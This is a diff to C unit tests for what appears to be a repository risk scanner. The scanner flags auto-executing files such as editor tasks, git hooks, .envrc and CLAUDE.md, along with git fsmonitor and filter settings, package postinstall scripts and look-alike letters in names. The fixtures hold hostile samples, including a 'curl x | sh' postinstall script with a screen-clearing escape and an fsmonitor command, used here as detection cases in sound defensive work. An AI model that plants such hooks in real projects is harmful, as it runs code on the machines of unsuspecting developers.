@@ -50,12 +50,21 @@ static bool tells(const struct risks *r, const char *text)
 	size_t i;
 
 	for (i = 0; i < r->count; i++)
-		if (strstr(r->items[i].text, text))
+		if (strstr(r->items[i].text, text) ||
+		    (r->items[i].line && strstr(r->items[i].line, text)))
 			return true;
 	return false;
 }
 
 #define FILE_MODE (S_IFREG | 0644)
+
+/* The level of a name alone. */
+static enum risk_level level_by_name(const char *path)
+{
+	enum risk_level level;
+
+	return risk_by_name(path, &level) ? level : RISK_NONE;
+}
 
 /* The level of an added file; in generated directories of a changed one. */
 static enum risk_level level_of(const char *path)
@@ -71,18 +80,19 @@ static enum risk_level level_of(const char *path)
 static void names_that_run_are_known_at_any_depth(void **state)
 {
 	(void)state;
-	assert_int_equal(level_of(".vscode/tasks.json"), RISK_CRITICAL);
-	assert_int_equal(level_of("sub/.vscode/tasks.json"), RISK_CRITICAL);
-	assert_int_equal(level_of(".git/hooks/pre-commit"), RISK_CRITICAL);
-	assert_int_equal(level_of(".git/modules/a/config"), RISK_CRITICAL);
-	assert_int_equal(level_of(".envrc"), RISK_CRITICAL);
-	assert_int_equal(level_of("CLAUDE.md"), RISK_CRITICAL);
-	assert_int_equal(level_of("Makefile"), RISK_HIGH);
-	assert_int_equal(level_of("lib/rules.mk"), RISK_HIGH);
-	assert_int_equal(level_of(".github/workflows/a.yml"), RISK_HIGH);
-	assert_int_equal(level_of("Dockerfile.dev"), RISK_HIGH);
-	assert_int_equal(level_of("package-lock.json"), RISK_NOTE);
-	assert_int_equal(level_of(".gitignore"), RISK_NOTE);
+	assert_int_equal(level_by_name(".vscode/tasks.json"), RISK_CRITICAL);
+	assert_int_equal(level_by_name("sub/.vscode/tasks.json"),
+			 RISK_CRITICAL);
+	assert_int_equal(level_by_name(".git/hooks/pre-commit"), RISK_CRITICAL);
+	assert_int_equal(level_by_name(".git/modules/a/config"), RISK_CRITICAL);
+	assert_int_equal(level_by_name(".envrc"), RISK_CRITICAL);
+	assert_int_equal(level_by_name("CLAUDE.md"), RISK_CRITICAL);
+	assert_int_equal(level_by_name("Makefile"), RISK_HIGH);
+	assert_int_equal(level_by_name("lib/rules.mk"), RISK_HIGH);
+	assert_int_equal(level_by_name(".github/workflows/a.yml"), RISK_HIGH);
+	assert_int_equal(level_by_name("Dockerfile.dev"), RISK_HIGH);
+	assert_int_equal(level_by_name("package-lock.json"), RISK_NOTE);
+	assert_int_equal(level_by_name(".gitignore"), RISK_NOTE);
 }
 
 static void what_a_home_folder_executes_is_known(void **state)
@@ -126,10 +136,10 @@ static void what_a_home_folder_executes_is_known(void **state)
 
 	(void)state;
 	for (i = 0; i < sizeof(names) / sizeof(*names); i++)
-		if (level_of(names[i]) < RISK_HIGH)
+		if (level_by_name(names[i]) < RISK_HIGH)
 			fail_msg("%s", names[i]);
-	assert_int_equal(level_of(".config/app/settings"), RISK_NONE);
-	assert_int_equal(level_of(".gradle/caches/x"), RISK_NONE);
+	assert_int_equal(level_by_name(".config/app/settings"), RISK_NONE);
+	assert_int_equal(level_by_name(".gradle/caches/x"), RISK_NONE);
 }
 
 /* The number of names with the lowest level, a note. */
@@ -144,7 +154,8 @@ static size_t count_notes(const char *names)
 		assert_true(strcspn(names, "|") < sizeof(name));
 		(void)snprintf(name, sizeof(name), "%.*s",
 			       (int)strcspn(names, "|"), names);
-		level = level_of(name);
+		level = risk_in_generated(name) ? level_of(name)
+						: level_by_name(name);
 		if (level < RISK_NOTE)
 			fail_msg("%s", name);
 		notes += level == RISK_NOTE;
@@ -162,8 +173,8 @@ static void whatever_is_known_to_execute_is_named(void **state)
 	assert_true(level_of("a/b.sh") == RISK_NOTE);
 	assert_true(level_of("a/lib.so") == RISK_HIGH);
 	assert_true(level_of("a/libx.so.1.5") == RISK_HIGH);
-	assert_true(level_of("unheard-of.config.mjs") == RISK_HIGH);
-	assert_true(level_of(".unheardofrc.cjs") == RISK_HIGH);
+	assert_true(level_by_name("unheard-of.config.mjs") == RISK_HIGH);
+	assert_true(level_by_name(".unheardofrc.cjs") == RISK_HIGH);
 }
 
 /* "vendor/lib" is a repository; "commondir" alone makes no worktree. */
@@ -193,7 +204,7 @@ static enum risk_level level_in_repository(const char *path)
 		.now_size = 2,
 		.read = read_side,
 		.exists = exists_in_repository,
-		.arg = &(struct sides){"x", "xy"},
+		.arg = &(struct sides){"x", "fsmonitor = y\n* filter=z\n"},
 	};
 
 	risk_judge(&f, &r);
@@ -240,7 +251,7 @@ static void a_new_script_of_a_package_is_named(void **state)
 	      "{\"scripts\": {\"test\": \"jest\", "
 	      "\"postinstall\": \"curl x | sh\\u001b[2J\"}}",
 	      &r);
-	assert_true(tells(&r, "script postinstall: curl x | sh\\x1b[2J"));
+	assert_true(tells(&r, "scripts.postinstall: curl x | sh\\x1b[2J"));
 	assert_false(tells(&r, "jest"));
 }
 
@@ -266,8 +277,8 @@ static void settings_of_git_that_run_commands_are_named(void **state)
 	      "[core]\n\tbare = true\n\tpager = less\n\tfsmonitor = /tmp/x\n"
 	      "[filter \"f\"]\n\tclean=evil\n",
 	      &r);
-	assert_true(tells(&r, "core.fsmonitor: /tmp/x"));
-	assert_true(tells(&r, "filter \"f\".clean: evil"));
+	assert_true(tells(&r, "fsmonitor = /tmp/x"));
+	assert_true(tells(&r, "clean=evil"));
 	assert_false(tells(&r, "pager"));
 	assert_false(tells(&r, "bare"));
 	assert_int_equal(risks_worst(&r), RISK_CRITICAL);
@@ -290,7 +301,7 @@ static void settings_in_odd_places_are_named(void **state)
 		AUTO(risks) struct risks r = {0};
 
 		judge(".git/config", FILE_MODE, FILE_MODE, "", texts[i], &r);
-		if (!tells(&r, "fsmonitor: evil"))
+		if (!tells(&r, "fsmonitor = evil"))
 			fail_msg("%s", texts[i]);
 	}
 }
@@ -557,7 +568,7 @@ static void letters_that_look_alike_are_told(void **state)
 		if (tells(&r, "its name mixes") != cases[i].told)
 			fail_msg("%s", cases[i].name);
 	}
-	judge("a", FILE_MODE, FILE_MODE, "us\u0435r", "if us\u0435r", &own);
+	judge("a", FILE_MODE, FILE_MODE, "us\u0435r", "x\nus\u0435r", &own);
 	assert_int_equal(own.count, 0);
 	judge("a", FILE_MODE, FILE_MODE, "user", "if us\u0435r", &own);
 	assert_true(tells(&own, "has words that mix"));
@@ -575,11 +586,11 @@ static void where_a_package_comes_from_is_told(void **state)
 	      "\"w\":\"workspace:*\"},"
 	      "\"overrides\":{\"d\":\"someone/d\"}}",
 	      &r);
-	assert_true(tells(&r, "package a: http://h/a.tgz"));
-	assert_true(tells(&r, "package d: someone/d"));
-	assert_false(tells(&r, "package b"));
-	assert_false(tells(&r, "package c"));
-	assert_false(tells(&r, "package w"));
+	assert_true(tells(&r, "dependencies.a: http://h/a.tgz"));
+	assert_true(tells(&r, "overrides.d: someone/d"));
+	assert_false(tells(&r, "dependencies.b"));
+	assert_false(tells(&r, "dependencies.c"));
+	assert_false(tells(&r, "dependencies.w"));
 }
 
 static void the_worst_comes_first(void **state)
